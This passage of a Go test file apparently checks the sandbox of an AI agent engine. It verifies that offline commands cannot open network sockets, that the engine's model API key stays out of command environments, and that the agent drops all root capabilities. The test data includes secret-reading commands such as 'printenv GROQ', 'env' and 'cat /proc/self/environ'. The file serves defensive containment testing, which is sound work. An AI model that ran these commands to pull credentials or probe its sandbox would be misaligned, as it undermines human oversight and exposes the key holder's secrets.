    "vsock": (40, socket.SOCK_STREAM, 0),
    "raw-ip": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "udp": (socket.AF_INET, socket.SOCK_DGRAM, 0),
    "tcp6": (socket.AF_INET6, socket.SOCK_STREAM, 0),
}
for name, args in kinds.items():
    try:
        socket.socket(*args).close()
        print("opened", name)
    except OSError as e:
        print("refused", name, e)
`, h.token)})
	h.makefile(map[string][]string{"all": {"python3 sockets.py"}}, "all")
	tr := h.run(propose("make"))
	h.mustAllow(tr, 0)
	h.ran(tr, 0)
	out, _ := tr.output(0)
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "opened ") {
			t.Errorf("an offline command %s socket", line)
		}
	}
}

// Issue 18, item 11: a key the engine holds for a model (api_key_env,
// whatever the variable's name) never reaches a command's environment,
// so neither env, printenv nor a build's output can hand it to the model.
func TestCommandCannotSeeEngineKeys(t *testing.T) {
	key := "gsk_" + strings.Repeat("Q", 4) + randomToken(t) + randomToken(t) + randomToken(t)
	h := newHands(t, handsSetup{model: "api_key_env: GROQ", env: []string{"GROQ=" + key}})
	h.makefile(map[string][]string{"all": {"@echo ran-" + h.token, "@env > env.txt", "@cat /proc/self/environ > environ.txt"}}, "all")
	tr := h.run(propose("env"), propose("printenv GROQ"), propose("make"))
	h.mustAllow(tr, 2)
	h.ran(tr, 2)
	t.Logf("verdicts: env %s, printenv GROQ %s", tr.verdict(0), tr.verdict(1))
	if got := h.leaked(key); len(got) > 0 {
		t.Errorf("the engine's GROQ key reached the model")
	}
	for _, f := range []string{"env.txt", "environ.txt"} {
		if b, _ := os.ReadFile(h.abs(f)); bytes.Contains(b, []byte(key)) {
			t.Errorf("the engine's GROQ key is in a command's environment (%s)", f)
		}
	}
}

// Issue 18, item 12 (its unit tests are the sandbox package's): as root,
// the agent process keeps no capability, in its effective, permitted or
// bounding set.
func TestAgentCannotKeepCapabilities(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("the engine does not run as root here, so the agent has no capability to drop")
	}
	h := newHands(t, handsSetup{})
	var status string
	var found bool
	tr := h.run(step{command: "true", before: func() { status, found = h.agentStatus() }})
	h.mustAllow(tr, 0)
	if !found {
		t.Fatal("no agent process found while the turn ran")
	}
	for _, field := range []string{"CapEff", "CapPrm", "CapBnd", "CapAmb"} {
		for _, line := range strings.Split(status, "\n") {
			if v, ok := strings.CutPrefix(line, field+":"); ok && strings.Trim(strings.TrimSpace(v), "0") != "" {
				t.Errorf("the agent holds capabilities: %s", line)
			}
		}
	}
}

// agentStatus is /proc/PID/status of this scenario's agent process
// (`parallax agent` with the workspace in its environment).
func (h *hands) agentStatus() (string, bool) {
	for _, pid := range processesWith(h.root) {
		cmdline, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		args := strings.Split(strings.TrimRight(string(cmdline), "\x00"), "\x00")
		if len(args) == 2 && args[1] == "agent" {
			b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
			return string(b), err == nil
		}
	}
	return "", false
}

func fileHash(t *testing.T, p string) [32]byte {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return sha256.Sum256(b)
}
